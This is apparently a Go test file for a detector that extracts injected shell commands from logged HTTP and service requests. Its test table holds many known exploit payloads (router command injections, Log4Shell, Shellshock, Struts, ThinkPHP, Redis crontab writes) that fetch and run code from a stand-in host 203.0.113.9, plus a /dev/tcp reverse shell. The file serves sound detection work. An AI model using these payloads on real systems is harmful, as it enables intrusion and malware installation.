package carried

import (
	"encoding/base64"
	"encoding/json"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/ttpcron/ttpcron"
)

func get(url string) *ttpcron.Event {
	return &ttpcron.Event{Kind: ttpcron.HTTPRequest, Payload: ttpcron.Payload{{Name: "method", Text: "GET"}, {Name: "raw_url", Text: url}}}
}

func post(url, body string) *ttpcron.Event {
	return &ttpcron.Event{Kind: ttpcron.HTTPRequest, Payload: ttpcron.Payload{{Name: "body", Text: body}, {Name: "method", Text: "POST"}, {Name: "raw_url", Text: url}}}
}

func withHeader(name, value string) *ttpcron.Event {
	raw, _ := json.Marshal(map[string]any{name: value})
	return &ttpcron.Event{Kind: ttpcron.HTTPRequest, Payload: ttpcron.Payload{{Name: "headers", Raw: raw}, {Name: "raw_url", Text: "/"}}}
}

func service(name, text string) *ttpcron.Event {
	return &ttpcron.Event{Kind: ttpcron.ServiceRequest, Payload: ttpcron.Payload{{Name: "request_text", Text: text}, {Name: "service", Text: name}}}
}

func coded(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestFind(t *testing.T) {
	for name, c := range map[string]struct {
		event *ttpcron.Event
		in    string
		how   string
		text  string
	}{
		"JAWS": {get("/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws"), "raw_url query", "whole value", "cd /tmp;rm -rf *;wget http://203.0.113.9/jaws;sh /tmp/jaws"},
		"Netgear": {get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/n.sh+-O+/tmp/n;sh+n&curpath=/&currentsetting.htm=1"),
			"raw_url parameter cmd", "whole value", "rm -rf /tmp/*;wget http://203.0.113.9/n.sh -O /tmp/n;sh n"},
		"D-Link":    {get("/login.cgi?cli=aa%20aa%27;wget%20http://203.0.113.9/d%20-O%20-%3E%20/tmp/hk;sh%20/tmp/hk%27$"), "raw_url parameter cli", "after ;", "wget http://203.0.113.9/d -O -> /tmp/hk;sh /tmp/hk"},
		"web shell": {get("/shell.php?cmd=id"), "raw_url parameter cmd", "whole value", "id"},
		"spaces":    {get("/x.php?cmd=ls%20-la%20%2Fvar%2Fwww"), "raw_url parameter cmd", "whole value", "ls -la /var/www"},
		"GPON": {post("/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://203.0.113.9/g+-O+/tmp/g;sh+/tmp/g`&ipv=0"),
			"body parameter dest_host", "in backquotes", "busybox wget http://203.0.113.9/g -O /tmp/g;sh /tmp/g"},
		"dollar":   {get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http://203.0.113.9/x+-O-|sh%60)"), "raw_url parameter country", "in $(…)", "id>`wget http://203.0.113.9/x -O-|sh`"},
		"path":     {get("/language/Swedish${IFS}&&echo${IFS}610cker>qt&&tar${IFS}/string.js"), "raw_url path", "after &", "echo${IFS}610cker>qt&&tar${IFS}/string.js"},
		"IFS":      {get("/cgi-bin/;wget${IFS}http://203.0.113.9/m"), "raw_url path", "after ;", "wget${IFS}http://203.0.113.9/m"},
		"ping":     {post("/diag", "host=127.0.0.1%3Bid"), "body parameter host", "after ;", "id"},
		"pipe":     {get("/ping?addr=8.8.8.8|whoami"), "raw_url parameter addr", "after |", "whoami"},
		"twice":    {get("/?x=%2524%2528wget%2520http%253A%252F%252F203.0.113.9%252Fa%2529"), "raw_url parameter x", "in $(…)", "wget http://203.0.113.9/a"},
		"newline":  {get("/apply.cgi?ip=1%0acat%20/etc/passwd"), "raw_url parameter ip", "after a newline", "cat /etc/passwd"},
		"and":      {get("/p?ip=1 && wget http://203.0.113.9/a -O /tmp/a"), "raw_url parameter ip", "after &", "wget http://203.0.113.9/a -O /tmp/a"},
		"ThinkPHP": {get(`/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id`), "raw_url parameter vars[1][]", "whole value", "id"},
		"ThinkPHP wget": {get(`/?s=/index/\think\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=cd%20/tmp;wget%20http://203.0.113.9/t;sh%20t`),
			"raw_url parameter vars[1][]", "whole value", "cd /tmp;wget http://203.0.113.9/t;sh t"},
		"quoted program":  {get("/x?a=1;w'g'et%20http://203.0.113.9/a"), "raw_url parameter a", "after ;", "w'g'et http://203.0.113.9/a"},
		"cgi traversal":   {post("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "echo Content-Type: text/plain; echo; id"), "body", "read by the shell that was asked for", "echo Content-Type: text/plain; echo; id"},
		"cgi double":      {post("/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", "A=|echo;id"), "body", "read by the shell that was asked for", "A=|echo;id"},
		"PHPUnit":         {post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", `<?php system('curl -s http://203.0.113.9/p|sh'); ?>`), "body", "argument of system", "curl -s http://203.0.113.9/p|sh"},
		"PHP base64":      {post("/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", `<?php shell_exec(base64_decode("`+coded("wget http://203.0.113.9/b")+`")); echo(md5("x")); ?>`), "body", "argument of shell_exec", "wget http://203.0.113.9/b"},
		"vBulletin":       {post("/", `routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec("id"); exit;`), "body parameter widgetConfig[code]", "argument of shell_exec", "id"},
		"Struts header":   {withHeader("Content-Type", `%{(#_='multipart/form-data').(#x=@java.lang.Runtime@getRuntime().exec('wget http://203.0.113.9/s'))}`), "headers member Content-Type", "argument of exec", "wget http://203.0.113.9/s"},
		"Confluence":      {get("/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"), "raw_url path", "argument of exec", "id"},
		"Groovy":          {post("/scriptText", `script=println+"uname+-a".execute().text`), "body parameter script", "text that is executed", "uname -a"},
		"Java array":      {post("/x", `T(java.lang.Runtime).getRuntime().exec(new String[]{"bash","-c","curl http://203.0.113.9/a | sh"})`), "body", "list of arguments", "bash -c 'curl http://203.0.113.9/a | sh'"},
		"Shellshock":      {withHeader("User-Agent", `() { :;}; /bin/bash -c "wget http://203.0.113.9/c"`), "headers member User-Agent", "after a Shellshock function", `/bin/bash -c "wget http://203.0.113.9/c"`},
		"Shellshock 6278": {withHeader("Referer", `() { _; } >_[$($())] { /usr/bin/id; }`), "headers member Referer", "after a Shellshock function", `/usr/bin/id;`},
		"Log4Shell":       {withHeader("X-Api-Version", `${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/`+coded("wget http://203.0.113.9/l|sh")+`}`), "headers member X-Api-Version", "base64 of a JNDI address", "wget http://203.0.113.9/l|sh"},
		"YARN":            {post("/ws/v1/cluster/apps", `{"application-id":"application_1","am-container-spec":{"commands":{"command":"curl http://203.0.113.9/y | bash"}}}`), "body member command", "whole value", "curl http://203.0.113.9/y | bash"},
		"Docker":          {post("/v1.24/containers/create", `{"Image":"alpine","Cmd":["/bin/sh","-c","chroot /mnt sh -c 'wget http://203.0.113.9/d'"]}`), "body member Cmd", "list of arguments", `/bin/sh -c 'chroot /mnt sh -c '\''wget http://203.0.113.9/d'\'''`},
		"Kubernetes":      {post("/api/v1/namespaces/d/pods/p/exec?command=sh&command=-c&command=id+-a&stdout=true", ""), "raw_url parameter command", "list of arguments", "sh -c 'id -a'"},
		"F5":              {post("/mgmt/tm/util/bash", `{"command":"run","utilCmdArgs":"-c 'id'"}`), "body member utilCmdArgs", "argument of a shell", "id"},
		"Zyxel": {post("/ztp/cgi-bin/handler", `{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","vlanid":"5","mtu":"; bash -c \"exec bash -i &>/dev/tcp/203.0.113.9/1\";","data":"hi"}`),
			"body member mtu", "after ;", `bash -c "exec bash -i &>/dev/tcp/203.0.113.9/1";`},
		"HG532": {post("/ctrlt/DeviceUpgrade_1", `<?xml version="1.0" ?><s:Envelope><s:Body><u:Upgrade xmlns:u="x"><NewStatusURL>$(/bin/busybox wget -g 203.0.113.9 -l /tmp/h -r /h; sh /tmp/h)</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>`),
			"body element NewStatusURL", "in $(…)", "/bin/busybox wget -g 203.0.113.9 -l /tmp/h -r /h; sh /tmp/h"},
		"WebLogic": {post("/wls-wsat/CoordinatorPortType", `<soapenv:Envelope><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>wget http://203.0.113.9/w &amp;&amp; sh w</string></void></array></void></soapenv:Envelope>`),
			"body element string", "whole value", "wget http://203.0.113.9/w && sh w"},
		"MSSQL":          {service("mssql", `EXEC master..xp_cmdshell 'echo ''a'' > C:\x.txt & whoami'`), "request_text", "argument of xp_cmdshell", `echo 'a' > C:\x.txt & whoami`},
		"Postgres":       {service("postgresql", `COPY cmd_exec FROM PROGRAM 'echo d2dldA==|base64 -d|bash';`), "request_text", "argument of PROGRAM", `echo d2dldA==|base64 -d|bash`},
		"UDF":            {service("mysql", `SELECT sys_exec('wget http://203.0.113.9/u -O /tmp/u')`), "request_text", "argument of sys_exec", `wget http://203.0.113.9/u -O /tmp/u`},
		"Redis":          {service("redis", "set x \"\n\n*/2 * * * * root cd1 -fsSL http://203.0.113.9/r | sh\n*/3 * * * * curl -fsSL http://203.0.113.9/r | sh\n\n\""), "request_text", "line of a crontab", "curl -fsSL http://203.0.113.9/r | sh"},
		"Redis escaped":  {service("redis", `SET x "\n\n*/1 * * * * wget -q -O- http://203.0.113.9/r|sh\n\n"`), "request_text", "line of a crontab", "wget -q -O- http://203.0.113.9/r|sh"},
		"Redis module":   {service("redis", `system.exec "wget http://203.0.113.9/m -O /tmp/m"`), "request_text", "argument of system.exec", "wget http://203.0.113.9/m -O /tmp/m"},
		"Redis Lua":      {service("redis", `eval "local f = io.popen('id', 'r'); return f:read('*a')" 0`), "request_text", "argument of popen", "id"},
		"ADB":            {service("adb", "shell:cd /data/local/tmp; busybox wget http://203.0.113.9/a\x00"), "request_text", "command of adb", "cd /data/local/tmp; busybox wget http://203.0.113.9/a"},
		"HTTP elsewhere": {service("redis", "GET /shell?cd+/tmp;wget+http://203.0.113.9/q HTTP/1.1\r\nHost: x\r\n\r\n"), "raw_url query", "whole value", "cd /tmp;wget http://203.0.113.9/q"},
	} {
		texts, bounded := Find(c.event)
		if bounded || len(texts) == 0 {
			t.Errorf("%s: %+v, bounded %v", name, texts, bounded)
			continue
		}
		if got := texts[0]; got != (Text{c.in, c.how, c.text}) {
			t.Errorf("%s:\n got %q %q %q\nwant %q %q %q", name, got.In, got.How, got.Text, c.in, c.how, c.text)
		}
	}
}

// What looks a little like a command, and is none.
func TestFindsNothing(t *testing.T) {
	for _, e := range []*ttpcron.Event{
		get("/index.html?id=5"), get("/search?q=cat+food"), get("/?name=wget"), get("/?tool=curl"), get("/docs/wget"), get("/bin/sh"), get("/man/1/bash?section=1"),
		get("/search?q=wget+https://example.com/file"), get("/search?q=how+to+chmod+777+/var/www"), get("/search?q=rm+-rf+/"), get("/search?q=ls|grep"), get("/search?q=AT%26T"),
		get("/list?fields=name|id|date"), get("/list?fields=name;id"), get("/list?sort=title,id"), get("/x;jsessionid=A1B2C3"), get("/x;v=1.1/id"),
		get("/a?cmd=list"), get("/a?cmd=login&user=x"), get("/a?command=start"), get("/a?cmd=find"), get("/a?cmd=show+version"), get("/a?exec=1"), get("/a?c=3"), get("/a?run=test"), get("/a?cmd=sort"),
		get("/?a=1&id=2&ls=3"), get("/?a=b&id"), get("/?u=R%26D+ps"), get("/wp-admin/load-scripts.php?c=1&load%5B%5D=hoverIntent,common,admin-bar"),
		get("/redirect?url=https://example.com/a;b=c?d=$(e)"), get("/?price=$(5)"), get("/?t=Tom;Jerry"), get("/?next=/bin/x"), get("/shells?shell=/bin/bash"),
		get("/?path=/etc/passwd"), get("/../../etc/passwd"), get("/?x=%27%20or%201=1;--"), get("/?x=1;select+sleep(5)"), get("/?style=color:red;top:5px"), get("/?time=12:00;date=2026-01-01"),
		post("/login", "log=admin&pwd=p;ls|x&wp-submit=Log+In"), post("/comment", "comment=use+%60wget%60+or+%60ls+-la%60+there&author=x"), post("/api", `{"name":"set","command":"status","args":["a","b"]}`),
		post("/api", `{"text":"first; then cat the file","query":"a | b"}`), post("/graphql", `{"query":"query { exec(id: \"5\") { name } run(test: \"x\") }"}`), post("/api", `{"shell":"/bin/zsh","home":"/home/x"}`),
		post("/api", `{"sql":"cursor.execute('SELECT 1')"}`), post("/js", `var m = /a(b)/.exec("abc"); $(id).hide(); $('#ls').show();`), post("/xml", `<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>admin</string></value></param><param><value><string>pass</string></value></param></params></methodCall>`),
		post("/upload", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"id.txt\"\r\n\r\nhello; world\r\n--b--"),
		withHeader("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"), withHeader("User-Agent", "Wget/1.21.3"), withHeader("User-Agent", "curl/8.5.0"),
		withHeader("Accept", "text/html;q=0.9,*/*;q=0.8"), withHeader("Cookie", "a=b; id=5; ls=3; time=12; ps=1"), withHeader("Content-Type", "multipart/form-data; boundary=x"), withHeader("Forwarded", `for=192.0.2.1;proto=http;by=203.0.113.43`),
		service("redis", "CONFIG SET dir /root/.ssh"), service("redis", "set id 5"), service("redis", "SET x hello;id"), service("mysql", "SELECT id; SELECT ls FROM x"), service("sip", "OPTIONS sip:nm SIP/2.0; id"), service("telnet", "-f root; wget http://203.0.113.9/a"),
		service("mssql", "EXEC sp_configure 'xp_cmdshell', 1"), service("snmp", "public"), service("ftp", "RETR id;1"),
		{Kind: ttpcron.AuthAttempt, Payload: ttpcron.TextPayload("username", "; wget http://203.0.113.9/a")},
		{Kind: ttpcron.HTTPRequest},
	} {
		if texts, bounded := Find(e); len(texts) > 0 || bounded {
			t.Errorf("%s: %+v, bounded %v", e.Payload.AppendJSON(nil), texts, bounded)
		}
	}
}

// Whatever an attacker sends, the work, the texts and their bytes are bounded.
func TestFindIsBounded(t *testing.T) {
	for name, s := range map[string]string{
		"separators": strings.Repeat(";", ttpcron.MaxText/4), "calls": strings.Repeat("exec(", ttpcron.MaxText/20), "quotes": strings.Repeat(`exec("`, ttpcron.MaxText/24), "percent": strings.Repeat("%25", ttpcron.MaxText/12),
		"commands": strings.Repeat("a=;id&", ttpcron.MaxText/24), "dollars": strings.Repeat("$(", ttpcron.MaxText/8), "backquotes": strings.Repeat("`wget ", ttpcron.MaxText/24), "words": strings.Repeat(";w'", ttpcron.MaxText/12),
		"one command": "a=;wget http://203.0.113.9/" + strings.Repeat("a", ttpcron.MaxText/4), "parameters": strings.Repeat("a&", ttpcron.MaxText/8), "ands": strings.Repeat("&&a", ttpcron.MaxText/12),
		"JSON": strings.Repeat(`{"a":`, ttpcron.MaxText/20) + "1" + strings.Repeat("}", ttpcron.MaxText/20), "list": "[" + strings.Repeat(`";id",`, ttpcron.MaxText/24) + "1]", "XML": strings.Repeat("<a>;id", ttpcron.MaxText/24),
		"cron": strings.Repeat("* * * * * id\n", ttpcron.MaxText/52), "calls of system": strings.Repeat("=system", ttpcron.MaxText/28), "jndi": "jndi" + strings.Repeat("/Base64/", ttpcron.MaxText/32), "assignments": strings.Repeat(";a=b", ttpcron.MaxText/16),
		"execute": strings.Repeat(`"id".execute()`, ttpcron.MaxText/56), "brackets": strings.Repeat(`["id"].execute()`, ttpcron.MaxText/64), "IFS": ";" + strings.Repeat("${IFS}", ttpcron.MaxText/24), "xp": strings.Repeat("xp_cmdshell''", ttpcron.MaxText/52),
		"texts that are executed": strings.Repeat(`].execute()`, ttpcron.MaxText/44), "files": strings.Repeat(";cat a", ttpcron.MaxText/24), "blanks": strings.Repeat("; ", ttpcron.MaxText/8), "open": strings.Repeat("$(id ", ttpcron.MaxText/20),
		"literals": `exec(` + strings.Repeat(`"a",`, ttpcron.MaxText/16),
	} {
		for _, e := range []*ttpcron.Event{get("/?" + s), get("/" + s), post("/", s), post("/cgi-bin/../bin/sh", s), withHeader("X", s), service("redis", s)} {
			began := time.Now()
			texts, _ := Find(e)
			size := 0
			for _, x := range texts {
				size += len(x.Text)
			}
			if len(texts) > maxTexts || size > maxFound+8 {
				t.Errorf("%s: %d texts of %d bytes", name, len(texts), size)
			}
			if d := time.Since(began); os.Getenv("TTPCRON_SLOW") != "" && d > 10*time.Millisecond {
				t.Logf("%s %v: %v", name, e.Kind, d)
			}
		}
	}
}

func FuzzFind(f *testing.F) {
	f.Add("/?a=1;id", "b=$(wget http://203.0.113.9/a)", "() { :;}; id")
	f.Add("/x", `{"Cmd":["sh","-c","id"]}`, "${jndi:ldap://x/Base64/aWQ=}")
	f.Add("/x", `<a><string>sh</string><string>-c</string></a>`, "x")
	f.Fuzz(func(t *testing.T, url, body, header string) {
		events := []*ttpcron.Event{post(url, body), withHeader("X", header), service("redis", body)}
		for _, e := range events {
			texts, _ := Find(e)
			again, _ := Find(e)
			if len(texts) != len(again) || len(texts) > maxTexts {
				t.Fatalf("%d texts, then %d", len(texts), len(again))
			}
			seen := map[string]bool{}
			for i, x := range texts {
				if x != again[i] || x.Text == "" || x.In == "" || x.How == "" || seen[x.Text] || len(x.Text) > maxFound {
					t.Fatalf("%+v, then %+v", x, again[i])
				}
				seen[x.Text] = true
			}
		}
	})
}
